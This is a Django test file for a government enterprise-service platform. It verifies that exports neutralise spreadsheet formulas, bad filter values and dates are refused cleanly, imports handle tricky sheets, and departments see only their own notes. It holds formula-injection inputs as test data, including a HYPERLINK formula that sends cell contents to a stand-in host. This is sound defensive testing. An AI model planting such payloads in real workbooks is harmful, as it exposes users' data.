"""Issue 14 (等保 2.0 level 3), what a user sends is never lost nor turned into code:

- every workbook the product writes holds users' text as text, never as a formula (1);
- no filter value or month gives a 500 (9, 15), and dates are refused outside a sane range (15);
- a long file name or a form error loses nothing the user sent (10);
- the Excel import reads every row the sheet holds and refuses what is too long (11);
- a department sees its own escalation, not its peers' work; the enterprise reads no working
  notes, on the page or in the API (12);
- a line break in a title never stops an e-mail (16); a rating error names no steward (17).
"""

import datetime as dt
import io
import re
import time
import zipfile

import pytest
import time_machine
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Border, Side
from rest_framework.test import APIClient

from enterprises.models import ImportBatch, IndustryChain, Park
from evaluations.models import Campaign, DepartmentMonthlyGrade, Rating
from evaluations.tests.factories import CampaignFactory, RatingFactory
from projects.tests.factories import FiveKeyItemFactory, FiveKeyNodeFactory, ProjectFactory
from stewards import services
from stewards.models import Escalation, LedgerItem, RequestAttachment, ServiceRequest, Visit
from stewards.tests.factories import pdf
from tests.factories import DepartmentFactory, EnterpriseFactory, UserFactory
from zonehub.exports import sheet_cell, sheet_row
from zonehub.models import Role
from zonehub.notifications import notifications_send_pending
from zonehub.workdays import SHANGHAI, local_date

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?q="&A1,"y")'
ENTERPRISE_NAME = "=1+1"


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def workbook_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_of(content: bytes) -> list:
    """Every cell of every sheet, after checking the file holds no formula at all: no <f> element
    in any sheet's XML, and no cell openpyxl reads back as a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def assert_written_as_text(response, *texts) -> list:
    cells = cells_of(workbook_of(response))
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is not in the sheet"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)
    return cells


# --- 1. no formula in any workbook ------------------------------------------------------------------


@pytest.fixture
def risky(zone):
    """An enterprise named like a formula, whose request, ledger item, project, five-key item,
    rating and department grade all carry one, in zone A."""
    enterprise = EnterpriseFactory(name=ENTERPRISE_NAME, workstation=zone.ws_a, steward=zone.steward_a)
    user = UserFactory(role=Role.ENTERPRISE, enterprise=enterprise)
    request = services.request_submit(actor=user, category="policy", title=FORMULA, description="@SUM(A1:A9)")
    services.request_escalate(request=request, actor=zone.steward_a.user, departments=[zone.dept_a], reason="请协助")
    services.ledger_item_record(actor=zone.leader, enterprise=enterprise, title=FORMULA, description="-1+2",
                                meeting_date=local_date(timezone.now()))
    ProjectFactory(name=FORMULA, investor=enterprise)
    FiveKeyNodeFactory(item=FiveKeyItemFactory(title=FORMULA, year=2026, responsible_unit=zone.dept_a))
    campaign = CampaignFactory(status=Campaign.Status.CLOSED, closed_at=dt.datetime(2026, 6, 24, tzinfo=SHANGHAI))
    RatingFactory(campaign=campaign, enterprise=enterprise, steward=zone.steward_a, rated_by=user,
                  value=Rating.Value.UNSATISFIED, reason=FORMULA)
    DepartmentMonthlyGrade.objects.create(department=DepartmentFactory(name=ENTERPRISE_NAME),
                                          month=dt.date(2026, 9, 1), score=90, grade="A")
    zone.risky_request, zone.campaign = request, campaign
    return zone


LIST_EXPORTS = [
    ("steward_a.user", "stewards:request_list", {}, (FORMULA, ENTERPRISE_NAME)),
    ("leader", "stewards:request_list", {}, (FORMULA, ENTERPRISE_NAME)),
    ("head_a", "stewards:escalation_list", {}, (FORMULA, ENTERPRISE_NAME)),
    ("dept_user_a", "stewards:inbox", {}, (FORMULA, ENTERPRISE_NAME)),
    ("leader", "stewards:ledger", {}, (FORMULA, ENTERPRISE_NAME)),
    ("leader", "enterprises:list", {}, (ENTERPRISE_NAME,)),
    ("leader", "projects:project_list", {}, (FORMULA,)),
    ("head_a", "evaluations:rating_list", {}, (ENTERPRISE_NAME, FORMULA)),
    ("leader", "evaluations:grade_list", {"month": "2026-09"}, (ENTERPRISE_NAME,)),
]


@pytest.mark.parametrize(("who", "url_name", "params", "texts"), LIST_EXPORTS,
                         ids=[f"{u}:{n}" for u, n, _p, _t in LIST_EXPORTS])
def test_every_list_export_writes_users_text_as_text(client, risky, who, url_name, params, texts):
    user = risky
    for part in who.split("."):
        user = getattr(user, part)
    client.force_login(user)
    assert_written_as_text(client.get(reverse(url_name), {**params, "format": "xlsx"}), *texts)


def test_the_board_and_campaign_exports_write_users_text_as_text(client, risky):
    client.force_login(risky.leader)
    assert_written_as_text(client.get(reverse("projects:board_export"), {"year": 2026}), FORMULA)
    assert_written_as_text(client.get(reverse("evaluations:campaign_export", args=[risky.campaign.pk])),
                           ENTERPRISE_NAME, FORMULA)


def test_numbers_and_dates_stay_numbers_and_dates(client, risky):
    client.force_login(risky.leader)
    content = workbook_of(client.get(reverse("stewards:request_list"), {"format": "xlsx"}))
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    header, row = rows[0], next(r for r in rows[1:] if r[1] == FORMULA)
    assert row[header.index("编号")] == risky.risky_request.pk
    assert isinstance(row[header.index("提交时间")], dt.datetime)


def test_a_cell_keeps_numbers_and_makes_every_text_plain_text():
    sheet = Workbook(write_only=True).create_sheet()
    assert sheet_cell(sheet, -5).data_type == "n" and sheet_cell(sheet, -5).value == -5
    assert sheet_cell(sheet, dt.date(2026, 3, 1)).value == dt.date(2026, 3, 1)
    for text in ("-5", "+86 139", "@me", "\t=1", "\r=1", "=1"):
        cell = sheet_cell(sheet, text)
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
    assert (sheet_cell(sheet, "#N/A").data_type, sheet_cell(sheet, "普通").quotePrefix) == ("s", False)
    # A control character a user pasted is dropped, not a failed export.
    assert sheet_cell(sheet, "标题\x01\x0b").value == "标题"


def test_the_import_template_and_error_report_write_text_as_text(client, zone):
    IndustryChain.objects.create(name="=SUM(A1:A9)")
    Park.objects.get_or_create(name="高新技术产业园")
    client.force_login(zone.admin)
    response = client.get(reverse("enterprises:import_template", args=["enterprises"]))
    assert_written_as_text(response, "=SUM(A1:A9)")

    upload = sheet_upload([HEADER, [ENTERPRISE_NAME, "91411200MA00000000", FORMULA, "高新技术产业园", "民企"]])
    client.post(reverse("enterprises:import"), {"kind": "enterprises", "file": upload})
    batch = ImportBatch.objects.get()
    assert batch.status == ImportBatch.Status.INVALID and batch.errors
    page = client.get(reverse("enterprises:import_detail", args=[batch.pk])).content.decode()
    assert 'data-testid="import-error-report"' in page
    cells = cells_of(workbook_of(client.get(reverse("enterprises:import_detail", args=[batch.pk]),
                                            {"format": "xlsx"})))
    values = [c.value for c in cells]
    assert values[:3] == ["行号", "列", "问题及修改方法"]
    assert len(values) == 3 * (1 + len(batch.errors)) and any(FORMULA in str(v) for v in values)
    assert all(isinstance(c.value, int) for c in cells[3::3])  # row numbers stay numbers


# --- 9 and 15. no 500 from a filter value or a month; dates in range ----------------------------------

BAD_ID = "9223372036854775808"
BAD_ID_27 = "123456789012345678901234567"


@pytest.mark.parametrize("who", ["leader", "head_a", "steward_a.user", "admin"])
def test_an_id_no_column_holds_is_nothing_found_not_a_500(client, zone, who):
    user = zone
    for part in who.split("."):
        user = getattr(user, part)
    client.force_login(user)
    for value in (BAD_ID, BAD_ID_27):
        page = client.get(reverse("evaluations:appraisal"), {"workstation": value})
        assert page.status_code == 200
        text = page.content.decode()
        assert "没有这个编号的工作站" in text and page.context["rows"] == []
        response = api(user).get("/api/appraisals/", {"workstation": value})
        assert response.status_code == 400 and "workstation" in response.json()
    assert client.get(reverse("evaluations:appraisal"), {"workstation": zone.ws_a.pk}).status_code == 200


def test_the_ratings_filters_take_ids_through_the_guarded_field(client, risky):
    client.force_login(risky.leader)
    url = reverse("evaluations:rating_list")
    page = client.get(url, {"campaign": risky.campaign.pk, "workstation": risky.ws_a.pk}).content.decode()
    assert f'<option value="{risky.campaign.pk}" selected>' in page and ENTERPRISE_NAME in page
    for name in ("campaign", "workstation", "steward"):
        assert client.get(url, {name: BAD_ID_27}).status_code == 200
        assert api(risky.leader).get("/api/ratings/", {name: BAD_ID_27}).status_code == 400


@pytest.mark.parametrize("who", ["leader", "head_a", "steward_a.user", "admin", "dept_user_a", "ent_user_a"])
def test_a_month_out_of_range_is_a_message_not_a_500(client, zone, who):
    user = zone
    for part in who.split("."):
        user = getattr(user, part)
    client.force_login(user)
    for month in ("9999-12", "0001-01"):
        page = client.get(reverse("stewards:request_list"), {"month": month})
        assert page.status_code == 200
        assert 'data-testid="filter-error"' in page.content.decode() and "2000-01" in page.content.decode()
        assert client.get(reverse("stewards:request_list"), {"month": month, "format": "xlsx"}).status_code == 200
        response = api(user).get("/api/requests/", {"month": month})
        assert response.status_code == 400 and "2000-01" in str(response.json()["month"])
        response = api(user).get("/api/grades/ranking/", {"month": month})
        assert response.status_code == 400 and "2000-01" in str(response.json()["month"])
        if user.effective_role != Role.ENTERPRISE:
            page = client.get(reverse("evaluations:grade_list"), {"month": month}, follow=True)
            assert page.status_code == 200 and "2000-01" in page.content.decode()


def test_a_month_in_range_still_filters(client, zone):
    request = services.request_submit(actor=zone.ent_user_a, category="policy", title="本月的诉求", description="d")
    month = f"{local_date(request.created_at):%Y-%m}"
    assert [r["id"] for r in api(zone.leader).get("/api/requests/", {"month": month}).json()["results"]] == [request.pk]
    assert api(zone.leader).get("/api/requests/", {"month": "2001-01"}).json()["results"] == []


def test_a_campaign_far_in_the_future_or_past_is_refused(client, zone):
    client.force_login(zone.leader)
    this_year = local_date(timezone.now()).year
    for year in (2999, this_year - 2):
        page = client.post(reverse("evaluations:campaign_open"), {"year": year, "half": "H1"}, follow=True)
        assert "只能开启今年或去年" in page.content.decode()
        response = api(zone.leader).post("/api/campaigns/open/", {"year": year, "half": "H1"}, format="json")
        assert response.status_code == 400 and "year" in response.json()
    assert not Campaign.objects.exists()
    with time_machine.travel(dt.datetime(2026, 3, 2, 10, tzinfo=SHANGHAI), tick=False):
        response = api(zone.leader).post("/api/campaigns/open/", {"year": 2026, "half": "H2"}, format="json")
        assert response.status_code == 400 and "尚未开始" in str(response.json()["half"])
        assert api(zone.leader).post("/api/campaigns/open/", {"year": 2025, "half": "H2"},
                                     format="json").status_code == 201


def test_visit_and_ledger_dates_of_year_one_are_refused_by_page_and_api(client, zone):
    steward = api(zone.steward_a.user)
    response = steward.post("/api/visits/", {"enterprise": zone.ent_a.pk, "visited_on": "0001-01-01"}, format="json")
    assert response.status_code == 400 and "2000年1月1日" in str(response.json()["visited_on"])
    leader = api(zone.leader)
    response = leader.post("/api/ledger-items/", {"enterprise": zone.ent_a.pk, "title": "积水", "description": "d",
                                                  "meeting_date": "0001-01-01"}, format="json")
    assert response.status_code == 400 and "2000年1月1日" in str(response.json()["meeting_date"])
    client.force_login(zone.leader)
    page = client.post(reverse("stewards:ledger_create"), {
        "enterprise": zone.ent_a.pk, "meeting_date": "0001-01-01", "category": "other", "title": "积水",
        "description": "d"})
    assert page.status_code == 200 and "2000年1月1日" in page.content.decode()
    assert not Visit.objects.exists() and not LedgerItem.objects.exists()


# --- 10. a long file name or a form error loses nothing ---------------------------------------------

LONG_NAME = "很长的文件名" * 37 + ".pdf"  # 226 characters


def test_a_long_file_name_is_shortened_keeping_its_extension(client, zone):
    assert 200 < len(LONG_NAME) <= 255
    client.force_login(zone.ent_user_a)
    response = client.post(reverse("stewards:request_create"), {
        "category": "policy", "title": "申报补贴", "description": "请指导。", "urgency": "normal",
        "attachments": [pdf(LONG_NAME)]})
    assert response.status_code == 302
    request = ServiceRequest.objects.get(title="申报补贴")
    (attachment,) = request.attachments.all()
    assert len(attachment.original_name) == 200 and attachment.original_name.endswith(".pdf")
    assert attachment.content_type == "application/pdf"
    assert client.get(reverse("stewards:attachment", args=[request.pk, attachment.pk])).status_code == 200

    response = api(zone.ent_user_a).post(f"/api/requests/{request.pk}/attach/", {"files": [pdf(LONG_NAME)]},
                                         format="multipart")
    assert response.status_code == 201
    assert response.json()[0]["original_name"].endswith(".pdf")
    response = api(zone.ent_user_a).post("/api/requests/", {
        "category": "policy", "title": "第二件", "description": "d", "files": [pdf(LONG_NAME)]}, format="multipart")
    assert response.status_code == 201 and response.json()["attachments"][0]["original_name"].endswith(".pdf")
    assert RequestAttachment.objects.count() == 3


def test_a_form_error_names_the_files_to_choose_again(client, zone):
    client.force_login(zone.ent_user_a)
    response = client.post(reverse("stewards:request_create"), {
        "category": "policy", "title": "题" * 201, "description": "请指导。", "urgency": "normal",
        "attachments": [pdf("营业执照.pdf"), pdf("申请表.pdf")]})
    assert response.status_code == 200
    page = response.content.decode()
    assert "营业执照.pdf、申请表.pdf" in page and "请在提交前重新选择这些文件" in page
    assert "请指导。" in page  # the text typed is kept
    assert not ServiceRequest.objects.exists() and not RequestAttachment.objects.exists()


# --- 11. the import reads every row the sheet holds --------------------------------------------------

HEADER = ["企业名称", "统一社会信用代码", "主导产业", "园区", "所有制"]


def sheet_upload(rows, *, dimension: str | None = None, blank_rows: int = 0, more_rows=()) -> SimpleUploadedFile:
    """A sheet of ``rows``, then ``blank_rows`` formatted empty rows and ``more_rows``; its declared
    dimension (``<dimension ref=...>``) rewritten to ``dimension`` when given."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("企业")
    for row in rows:
        sheet.append(sheet_row(sheet, row))  # "=..." typed into a text cell stays text
    border = Border(left=Side(style="thin"))
    for _i in range(blank_rows):
        cell = WriteOnlyCell(sheet, value=None)
        cell.border = border
        sheet.append([cell])
    for row in more_rows:
        sheet.append(sheet_row(sheet, row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    content = buffer.getvalue()
    if dimension:
        content = rewrite_dimension(content, dimension)
    return SimpleUploadedFile("企业.xlsx", content,
                              content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def rewrite_dimension(content: bytes, ref: str) -> bytes:
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), data)
                if not n:
                    data = data.replace(b"<sheetViews>", f'<dimension ref="{ref}"/><sheetViews>'.encode(), 1)
            out.writestr(item, data)
    return target.getvalue()


def enterprise_rows(n, start=0):
    from stewards.tests.test_import_enterprises import code_for

    return [[f"导入企业{i:05d}有限公司", code_for(i), "新材料", "高新技术产业园", "民企"] for i in range(start, start + n)]


@pytest.fixture
def lookups(zone):
    IndustryChain.objects.get_or_create(name="新材料")
    Park.objects.get_or_create(name="高新技术产业园")
    return zone


def upload(client, user, file):
    client.force_login(user)
    client.post(reverse("enterprises:import"), {"kind": "enterprises", "file": file})
    return ImportBatch.objects.order_by("-pk").first()


def test_a_sheet_declaring_fewer_rows_than_it_holds_is_read_to_its_end(client, lookups):
    file = sheet_upload([HEADER, *enterprise_rows(6)], dimension="A1:M3")
    batch = upload(client, lookups.admin, file)
    assert batch.status == ImportBatch.Status.VALID, (batch.message, batch.errors)
    assert batch.total == 6 and batch.to_create == 6


def test_a_sheet_declaring_one_row_cannot_slip_past_the_row_limit(client, lookups, settings):
    settings.ZONEHUB_IMPORT_MAX_ROWS = 20
    client.force_login(lookups.admin)
    page = client.post(reverse("enterprises:import"), {
        "kind": "enterprises", "file": sheet_upload([HEADER, *enterprise_rows(21)], dimension="A1")}).content.decode()
    assert "表格超过 20 行" in page
    assert not ImportBatch.objects.exists()  # refused at the upload, nothing stored


def test_rows_after_empty_ones_are_read(client, lookups):
    file = sheet_upload([HEADER, *enterprise_rows(2)], blank_rows=300, more_rows=enterprise_rows(2, start=2))
    batch = upload(client, lookups.admin, file)
    assert batch.status == ImportBatch.Status.VALID and batch.total == 4
    assert [row for row, _action, _label in batch.preview] == [2, 3, 304, 305]


def test_a_sheet_of_endless_empty_rows_is_refused_quickly(client, lookups, settings, monkeypatch):
    settings.ZONEHUB_IMPORT_MAX_ROWS = 100
    monkeypatch.setattr("enterprises.imports.sheets.EMPTY_ROWS_ALLOWED", 1000)
    file = sheet_upload([HEADER, *enterprise_rows(2)], blank_rows=200_000)
    started = time.monotonic()
    client.force_login(lookups.admin)
    page = client.post(reverse("enterprises:import"), {"kind": "enterprises", "file": file}).content.decode()
    assert time.monotonic() - started < 20  # a file like it held a worker 70 s
    assert "表格超过了第 1101 行" in page
    assert not ImportBatch.objects.exists()


# --- 12. a department sees its own escalation, not its peers' work ------------------------------------


@pytest.fixture
def two_departments(zone):
    request = services.request_submit(actor=zone.ent_user_a, category="factors", title="二号线增容",
                                      description="需要增容。")
    services.request_escalate(request=request, actor=zone.steward_a.user, departments=[zone.dept_a, zone.dept_b],
                              reason="管家内部说明：企业法人难沟通")
    esc_a = Escalation.objects.get(request=request, department=zone.dept_a)
    esc_b = Escalation.objects.get(request=request, department=zone.dept_b)
    services.escalation_reply(escalation=esc_a, actor=zone.dept_user_a, reply="甲局答复：已安排勘察")
    services.escalation_mark_consultation(escalation=esc_b, actor=zone.dept_user_b, reason="乙局会商理由：涉及规划调整")
    services.escalation_progress_report(escalation=esc_b, actor=zone.dept_user_b, text="乙局进展：已召开协调会")
    zone.request, zone.esc_a, zone.esc_b = request, esc_a, esc_b
    return zone


def test_a_department_sees_not_its_peers_work_on_page_or_api(client, two_departments):
    zone = two_departments
    client.force_login(zone.dept_user_a)
    page = client.get(reverse("stewards:request_detail", args=[zone.request.pk])).content.decode()
    assert "甲局答复：已安排勘察" in page
    assert "乙局" not in page and zone.dept_b.name not in page
    client_api = api(zone.dept_user_a)
    detail = client_api.get(f"/api/requests/{zone.request.pk}/").json()
    assert [e["id"] for e in detail["escalations"]] == [zone.esc_a.pk]
    events = client_api.get(f"/api/requests/{zone.request.pk}/events/").json()
    assert "乙局" not in str(events) and "甲局答复：已安排勘察" in str(events)
    assert client_api.get(f"/api/escalations/{zone.esc_b.pk}/").status_code == 404
    # Its peer sees its own work, and the steward sees everyone's.
    assert "乙局进展：已召开协调会" in str(api(zone.dept_user_b).get(f"/api/requests/{zone.request.pk}/events/").json())
    steward_events = str(api(zone.steward_a.user).get(f"/api/requests/{zone.request.pk}/events/").json())
    assert "甲局答复" in steward_events and "乙局会商理由" in steward_events


def test_the_enterprise_reads_no_working_notes_on_page_or_api(client, two_departments):
    zone = two_departments
    client.force_login(zone.ent_user_a)
    page = client.get(reverse("stewards:request_detail", args=[zone.request.pk])).content.decode()
    assert zone.dept_a.name in page and zone.dept_b.name in page  # which departments hold it
    for note in ("管家内部说明", "甲局答复", "乙局会商理由", "乙局进展"):
        assert note not in page
    client_api = api(zone.ent_user_a)
    rows = client_api.get("/api/escalations/", {"request": zone.request.pk}).json()["results"]
    assert {r["department"] for r in rows} == {zone.dept_a.pk, zone.dept_b.pk}
    for row in rows:
        assert row["reason"] is None and row["consultation_reason"] is None and row["reply"] is None
    assert client_api.get(f"/api/escalations/{zone.esc_b.pk}/").json()["consultation_reason"] is None
    assert client_api.get(f"/api/escalations/{zone.esc_b.pk}/progress/").json()[0]["text"] is None
    events = str(client_api.get(f"/api/requests/{zone.request.pk}/events/").json())
    assert "管家内部说明" not in events and "乙局" not in events and "甲局" not in events
    # The steward's side reads them, page and API alike.
    assert api(zone.steward_a.user).get(f"/api/escalations/{zone.esc_b.pk}/").json()["consultation_reason"]


# --- 16. a line break in a title never stops the e-mail -----------------------------------------------


def test_a_title_on_two_lines_still_reaches_the_department_by_email(zone):
    zone.dept_user_a.email = "dept@zone.test"
    zone.dept_user_a.save(update_fields=["email"])
    request = services.request_submit(actor=zone.ent_user_a, category="factors", title="二号线\r\n增容" + "很急" * 100,
                                      description="d")
    services.request_escalate(request=request, actor=zone.steward_a.user, departments=[zone.dept_a], reason="请协助")
    mail.outbox.clear()
    notifications_send_pending()
    (message,) = [m for m in mail.outbox if m.to == ["dept@zone.test"]]
    assert "\n" not in message.subject and "\r" not in message.subject
    assert "二号线 增容" in message.subject and len(message.subject) <= 150
    assert zone.dept_user_a.notifications.filter(delivery="sent").exists()

